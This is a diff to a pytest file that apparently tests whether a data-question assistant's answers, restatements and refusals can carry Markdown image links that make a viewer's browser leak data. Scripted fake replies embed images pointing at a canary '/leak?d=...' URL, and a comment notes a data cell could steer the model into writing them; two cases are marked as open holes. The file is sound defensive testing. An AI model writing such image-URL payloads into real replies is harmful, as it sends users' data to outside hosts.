@@ -96,22 +96,32 @@ def test_code_in_the_models_reply_is_never_run_and_the_chart_is_a_spec(world: Wo
 
 # Text the model writes is drawn as Markdown: an image in it is fetched by the browser of
 # whoever opens the answer, with whatever the model (or a cell that steered it) put in the URL.
-EXFILTRATING_ANSWERS = [
-    "North leads. ![chart]({url}/leak?d=North-7225)",
-    "North leads. ![chart][1]\n\n[1]: {url}/leak?d=North-7225",
-]
+# The model writes three texts a page draws: the answer sentence, the line saying how it read
+# the question ("Understood as: ..."), and its reason when it declines.
+SQL_REPLY = "```sql\nSELECT region, sum(revenue) AS revenue FROM sales GROUP BY region\n```"
+IMAGE = "![chart]({url}/leak?d=North-7225)"
+EXFILTRATIONS = {
+    "sentence-inline-image": (SQL_REPLY, "North leads. " + IMAGE),
+    "sentence-reference-image": (SQL_REPLY, "North leads. ![chart][1]\n\n[1]: {url}/leak?d=N"),
+    "understanding": (f"Revenue per region, as on {IMAGE}.\n{SQL_REPLY}", "North leads."),
+    "refusal": (f"I cannot answer that from these tables {IMAGE} sorry.", None),
+}
+# The sentence is cleaned today; how the model read the question and its refusal are not.
+_OPEN = {"understanding", "refusal"}
 
 
-@pytest.mark.hole
-@pytest.mark.parametrize("reply", EXFILTRATING_ANSWERS, ids=["inline-image", "reference-image"])
-def test_the_models_sentence_carries_no_url_for_the_browser_to_fetch(world: World, reply):
-    world.model.fake.script(
-        "```sql\nSELECT region, sum(revenue) AS revenue FROM sales GROUP BY region\n```",
-        reply.format(url=world.canary.url),
-    )
+@pytest.mark.parametrize(
+    "replies",
+    [
+        pytest.param(v, id=k, marks=[pytest.mark.hole] if k in _OPEN else [])
+        for k, v in EXFILTRATIONS.items()
+    ],
+)
+def test_text_the_model_writes_carries_no_url_for_the_browser_to_fetch(world: World, replies):
+    world.model.fake.script(*(r.format(url=world.canary.url) for r in replies if r))
     before = len(world.messages())
     result = ask(world.session, world.settings, world.alice, world.chat_id, "revenue by region")
+    assert world.model.fake.pending == 0, "a scripted reply was not used"
     shown = result_text(result) + messages_text(world.messages()[before:])
-    assert result.success
-    assert world.canary.url not in shown, f"the answer carries a URL: {result.answer!r}"
-    assert not re.search(r"!\[[^\]]*\]", shown), f"the answer draws an image: {result.answer!r}"
+    leak = re.search(r".{0,80}(" + re.escape(world.canary.url) + r"|!\[[^\]]*\]).{0,40}", shown)
+    assert leak is None, f"a URL or an image reaches the page: ...{leak.group(0)}..."
